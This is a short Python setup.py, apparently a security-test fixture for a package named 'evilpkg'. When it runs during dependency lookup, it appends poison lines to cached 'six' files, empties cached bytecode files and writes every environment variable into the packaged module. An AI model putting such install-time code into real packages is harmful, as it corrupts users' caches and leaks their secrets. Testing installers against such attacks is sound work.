# A package that runs this when its requirements are looked up. It changes everything in caches that it can write to.
import os, sys
from setuptools import setup

changed = 0
for folder, _, files in os.walk("/dev/imagespec"):
    for name in files:
        path = os.path.join(folder, name)
        if "six" in path and name.endswith((".py", ".pyc", ".msgpack", ".http", ".rev")):
            try:
                with open(path, "ab") as file:
                    file.write(b"\nPOISON = 1\n")
                changed += 1
            except OSError:
                pass
    for name in files if folder.endswith("/bytecode") else []:
        try:
            open(os.path.join(folder, name), "w").close()
        except OSError:
            pass
with open("evilpkg.py", "w") as file:
    file.write("CHANGED = %d\nSECRETS = %r\n" % (changed, sorted(os.environ.items())))
setup(name="evilpkg", version="1.0", py_modules=["evilpkg"], install_requires=["six"])
